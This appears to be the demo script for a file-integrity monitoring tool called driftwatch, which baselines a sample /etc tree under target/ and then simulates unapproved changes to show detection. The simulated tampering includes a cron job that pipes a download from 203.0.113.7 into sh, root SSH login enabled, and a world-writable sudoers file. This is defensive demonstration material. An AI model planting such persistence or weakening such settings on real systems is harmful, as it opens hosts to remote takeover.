#!/usr/bin/env bash
# The README's first command: builds the agent, baselines a small demo tree,
# makes the kind of changes an intruder or a 3 a.m. fix would, shows what
# driftwatch reports, and says what to try next. Writes only under target/.
set -euo pipefail
cd "$(dirname "$0")/.."

cargo build --release --quiet -p driftwatch-agent
agent=target/release/driftwatch-agent
demo=target/driftwatch-demo
tree=$demo/etc
db=$demo/baseline.db

rm -rf "$demo"
mkdir -p "$tree/ssh" "$tree/cron.d" "$tree/sudoers.d" "$tree/nginx"
printf 'Port 22\nPermitRootLogin no\nPasswordAuthentication no\n' > "$tree/ssh/sshd_config"
printf '%%admin ALL=(ALL) ALL\n' > "$tree/sudoers.d/admins"
printf 'server {\n    listen 80;\n    root /srv/www;\n}\n' > "$tree/nginx/site.conf"
printf '0 3 * * * root /usr/local/bin/backup\n' > "$tree/cron.d/backup"

step() { printf '\n\033[1m== %s\033[0m\n$ %s\n' "$1" "${*:2}"; }

step "record the approved state (baseline)" "$agent baseline init --path $tree --db $db"
"$agent" baseline init --quiet --path "$tree" --db "$db"

step "check with nothing changed" "$agent check --path $tree --db $db"
"$agent" check --quiet --path "$tree" --db "$db"

# What nobody approved: root login, a new cron job, a world-writable sudoers file.
sed -i 's/PermitRootLogin no/PermitRootLogin yes/' "$tree/ssh/sshd_config"
printf '* * * * * root curl -s http://203.0.113.7/x | sh\n' > "$tree/cron.d/update"
chmod 0666 "$tree/sudoers.d/admins"
rm "$tree/cron.d/backup"

step "check after unapproved changes (exit code 1 = drift)" "$agent check --path $tree --db $db"
status=0
"$agent" check --quiet --path "$tree" --db "$db" || status=$?
echo "(exit code $status)"

cat <<NEXT

What to try next:
  * Change something yourself under $tree and run the check again:
      $agent check --path $tree --db $db
    Add --json for machine-readable output, --paranoid to re-hash every file.
  * Accept a reviewed change as the new baseline (recorded with its reason):
      $agent baseline accept $tree/ssh --reason "CHG-1234 enable root login" --path $tree --db $db
      $agent baseline show --path $tree --db $db      # summary and history
  * Tamper with the baseline ($db) and see the integrity check fail (exit code 4).
  * Check a real tree (as root, to read everything):
      sudo $agent baseline init --path /etc --db /var/lib/driftwatch/etc.db
  * Use the shipped server policy (config/examples/agent.toml) as a daily check:
      see packaging/README.md
  * Exit codes and every option: $agent --help, $agent check --help
NEXT
